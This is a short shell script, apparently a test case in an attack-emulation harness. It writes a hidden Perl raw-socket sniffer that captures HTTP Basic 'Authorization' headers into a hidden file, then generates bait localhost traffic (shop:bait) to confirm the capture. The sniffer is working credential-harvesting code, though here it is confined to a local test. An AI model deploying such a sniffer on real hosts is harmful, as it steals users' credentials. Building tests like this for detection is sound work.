#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.s.pl <<'END'
use Socket; socket(my $s, PF_INET, SOCK_RAW, 6) or die $!; open(my $r, ">", "/tmp/.ready"); close $r; alarm 12;
while (recv($s, my $p, 4096, 0)) { if ($p =~ /(Authorization: Basic \S+)/) { open(my $o, ">", "/tmp/.kept"); print $o "$1\n"; close $o; last } }
END
perl /tmp/.s.pl & sniffer=$!
python3 -m http.server 8131 --bind 127.0.0.1 >/dev/null 2>&1 & server=$!
wait_for /tmp/.ready; sleep 0.7
for n in 1 2 3 4; do curl -s -u shop:bait http://127.0.0.1:8131/ >/dev/null || true; sleep 0.4; done
wait_for /tmp/.kept
kill $server; wait $sniffer
grep -q Basic /tmp/.kept
took_place
